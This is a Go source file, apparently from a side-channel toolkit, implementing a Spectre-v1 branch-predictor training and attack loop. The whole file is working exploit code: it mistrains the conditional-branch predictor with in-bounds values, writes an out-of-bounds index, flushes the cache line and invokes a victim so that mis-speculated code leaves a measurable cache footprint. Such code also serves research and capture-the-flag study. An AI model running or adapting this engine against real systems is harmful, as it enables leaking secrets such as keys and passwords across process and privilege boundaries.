//go:build linux && amd64

// Package spectre implements the PHT-based Spectre-v1 training/attack
// engine: repeatedly steering a conditional branch's predictor toward an
// in-bounds decision, then once biased, writing an out-of-bounds value and
// invoking a victim so its mis-speculated body runs long enough to leave a
// cache footprint.
package spectre

import (
	"unsafe"

	"github.com/CuB3y0nd/axium/sidechannel/cpu"
)

// Variant selects the branch-condition shape being attacked. Only
// VariantPHT is implemented; other tags are accepted but Run is a no-op for
// them, matching the silent-no-op policy for configuration mismatches.
type Variant int

const (
	VariantPHT Variant = iota
	VariantBTB
	VariantRSB
)

// Width is the byte width of the index/length location being trained and
// attacked.
type Width int

const (
	Width8  Width = 1
	Width16 Width = 2
	Width32 Width = 4
	Width64 Width = 8
)

// Setup, when non-nil, performs the write of x into the target location
// itself, used when the write requires a syscall rather than a plain
// store (for example, an index validated and stored by a separate victim
// process). When Setup is nil, Run writes x directly to IndexAddr at Width.
type Setup func(x uint64)

// Config parameterizes a Spectre-v1 run.
type Config struct {
	Variant Variant

	IndexAddr unsafe.Pointer // writable index/length location; may be nil if Setup is used
	Width     Width
	Setup     Setup

	TrainingVal uint64
	AttackVal   uint64

	Ratio      int // training-to-attack ratio per trial
	Trials     int // total outer trials
	SyncDelay  int // cycles between cache flush and victim trigger
	PostDelay  int // cycles after the victim trigger
}

// Victim is invoked once per (trial, i) iteration after the index has been
// written, flushed, and the sync delay elapsed.
type Victim func()

// Run executes the training/attack loop described by cfg, calling victim on
// every iteration. It is a no-op for any variant other than VariantPHT.
func Run(cfg Config, victim Victim) {
	if cfg.Variant != VariantPHT {
		return
	}
	if victim == nil {
		victim = func() {}
	}

	for t := 0; t < cfg.Trials; t++ {
		for i := cfg.Ratio; i >= 0; i-- {
			x := cfg.TrainingVal
			if i == 0 {
				x = cfg.AttackVal
			}

			writeIndex(cfg, x)
			cpu.MFence()

			if cfg.IndexAddr != nil {
				cpu.Clflush((*byte)(cfg.IndexAddr))
				cpu.CPUID()
			}

			cpu.Spin(cfg.SyncDelay)
			victim()
			cpu.Spin(cfg.PostDelay)
		}
	}
}

// writeIndex stores x into the configured target, via Setup if provided or
// a direct width-specialized store to IndexAddr otherwise.
func writeIndex(cfg Config, x uint64) {
	if cfg.Setup != nil {
		cfg.Setup(x)
		return
	}
	if cfg.IndexAddr == nil {
		return
	}
	switch cfg.Width {
	case Width8:
		*(*uint8)(cfg.IndexAddr) = uint8(x)
	case Width16:
		*(*uint16)(cfg.IndexAddr) = uint16(x)
	case Width32:
		*(*uint32)(cfg.IndexAddr) = uint32(x)
	case Width64:
		*(*uint64)(cfg.IndexAddr) = x
	}
}
